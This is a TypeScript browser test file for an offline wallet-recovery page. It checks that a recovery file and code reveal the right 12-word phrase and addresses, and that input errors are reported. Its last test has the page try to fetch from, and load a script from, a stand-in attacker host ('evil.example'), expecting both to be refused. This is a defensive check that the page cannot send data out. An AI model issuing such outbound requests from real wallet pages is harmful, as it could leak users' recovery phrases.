import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { mnemonicToAccount } from 'viem/accounts'
import type { Browser, Page } from 'playwright'
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest'
import { buildClient } from '../../../scripts/buildClient.mjs'
import { createTestVault, createWallet, type CreatedWallet } from '../../testing/createTestVault.js'
import { parseRecoveryFile } from '../../vault/recovery/recoveryFile.js'
import { examinePage, openBrowser, openWatchedPage, type WatchedPage } from '../../testing/openBrowser.js'
import { readTexts } from '../../testing/readTexts.js'

// `exit.html` from a disk, without network: the service is off.
let folder: string
let browser: Browser
let watched: WatchedPage
let page: Page
let created: CreatedWallet
const pathOf = (name: string) => join(folder, name)

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'latchkey-exit-'))
  const { files } = await buildClient()
  writeFileSync(pathOf('exit.html'), files.get('exit.html') ?? '')
  const { vault } = createTestVault()
  created = await createWallet(vault)
  writeFileSync(pathOf('recovery.json'), created.file)
  writeFileSync(pathOf('other.json'), '{}')
  browser = await openBrowser()
}, 180_000)
afterAll(async () => {
  await browser.close()
  rmSync(folder, { recursive: true })
})
beforeEach(async () => {
  watched = await openWatchedPage(browser, { offline: true, viewport: { width: 360, height: 640 }, locale: 'en-US' })
  page = watched.page
  await page.goto(pathToFileURL(pathOf('exit.html')).href)
})
afterEach(async () => {
  expect(watched.faults).toEqual([])
  await page.context().close()
})
const enter = async (file: string, code: string) => {
  await page.getByLabel('Recovery file').setInputFiles(pathOf(file))
  await page.getByLabel('Recovery code').fill(code)
  await page.getByLabel('Recovery code').press('Enter')
}

it('opens the wallet with the recovery file and the recovery code, in the addresses of the wallet', async () => {
  expect(await examinePage(page)).toEqual([])
  await enter('recovery.json', created.code.toLowerCase().replaceAll('-', ' '))
  await page.getByRole('heading', { name: 'Your recovery phrase' }).waitFor()
  const { addresses } = parseRecoveryFile(created.file)
  const words = await readTexts(page.locator('.phrase li'))
  expect(words).toHaveLength(12)
  expect(mnemonicToAccount(words.join(' ')).address).toBe(addresses.eip155)
  expect(await readTexts(page.locator('dd'))).toEqual([addresses.eip155, addresses.solana])
  expect(await examinePage(page)).toEqual([])
  await page.getByRole('button', { name: 'Hide the phrase' }).click()
  expect(await page.locator('.phrase').count()).toBe(0)
})

it('says what is wrong with the file or the code', async () => {
  const alert = page.getByRole('alert')
  await page.getByRole('button', { name: 'Show the recovery phrase' }).click()
  await page.getByText('Choose the recovery file first.').waitFor()
  await enter('other.json', created.code)
  await page.getByText('This is no recovery file.').waitFor()
  await enter(
    'recovery.json',
    created.code.replace(/.$/, (last) => (last === '7' ? '8' : '7')),
  )
  await page.getByText('The code does not open this file.').waitFor()
  expect(await alert.count()).toBe(1)
  expect(await page.getByLabel('Recovery code').getAttribute('aria-invalid')).toBe('true')
})

it('can send nothing, even with a network', async () => {
  await page.context().setOffline(false)
  const outcomes = await page.evaluate(async () => {
    const attempt = async (act: () => unknown) => {
      try {
        await act()
        return 'done'
      } catch {
        return 'refused'
      }
    }
    return [
      await attempt(() => fetch('https://evil.example/')),
      await attempt(() => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })),
      await attempt(() => Object.assign(document.body, { innerHTML: '<b></b>' })),
    ]
  })
  expect(outcomes).toEqual(['refused', 'refused', 'refused'])
  // The browser reports the violations.
  expect(watched.faults.splice(0).length).toBeGreaterThan(0)
})
